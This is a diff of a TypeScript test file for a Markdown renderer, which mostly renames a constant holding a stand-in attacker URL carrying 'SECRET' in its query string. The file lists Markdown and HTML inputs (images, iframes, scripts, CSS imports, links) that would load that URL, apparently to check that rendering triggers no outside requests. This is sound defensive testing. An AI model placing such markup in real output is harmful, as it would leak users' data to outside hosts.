@@ -2,20 +2,20 @@ import { expect, mount } from '../testing/fixture.ts';
 import { createDocument, renderAtOnce, renderInPieces } from '../testing/markdown.ts';
 import '../../define-all.ts';
 
-const evil = 'https://evil.example/?q=SECRET';
+const evilUrl = 'https://evil.example/?q=SECRET';
 const resourceTexts = [
-  `![x](${evil})`,
-  `![x][r]\n\n[r]: ${evil}`,
-  `![${evil}](${evil} "${evil}")`,
-  `<img src="${evil}">`,
-  `<svg><image href="${evil}"/></svg>`,
-  `<div style="background:url(${evil})">x</div>`,
-  `<style>@import "${evil}";</style>`,
-  `<iframe src="${evil}"></iframe><script src="${evil}"></script>`,
-  `<link rel=icon href="${evil}">`,
-  `[![x](${evil})](${evil})`,
-  `${evil} <${evil}>`,
-  `| ![x](${evil}) |\n|---|\n| ![y](${evil}) |`,
+  `![x](${evilUrl})`,
+  `![x][r]\n\n[r]: ${evilUrl}`,
+  `![${evilUrl}](${evilUrl} "${evilUrl}")`,
+  `<img src="${evilUrl}">`,
+  `<svg><image href="${evilUrl}"/></svg>`,
+  `<div style="background:url(${evilUrl})">x</div>`,
+  `<style>@import "${evilUrl}";</style>`,
+  `<iframe src="${evilUrl}"></iframe><script src="${evilUrl}"></script>`,
+  `<link rel=icon href="${evilUrl}">`,
+  `[![x](${evilUrl})](${evilUrl})`,
+  `${evilUrl} <${evilUrl}>`,
+  `| ![x](${evilUrl}) |\n|---|\n| ![y](${evilUrl}) |`,
 ];
 
 const repeat = (text: string, length = 200_000) => text.repeat(Math.ceil(length / text.length));
@@ -93,7 +93,7 @@ describe('hostile Markdown', () => {
     expect(content.querySelector('strong')).to.equal(null);
   });
 
-  it('is rendered the same beyond the limits when it streams', () => {
+  it('is rendered the same beyond the limits whether it streams or is complete', () => {
     const text = repeat('- a\n', 84_000);
 
     expect(renderInPieces(text, [9_973]).innerHTML).to.equal(renderAtOnce(text).innerHTML);
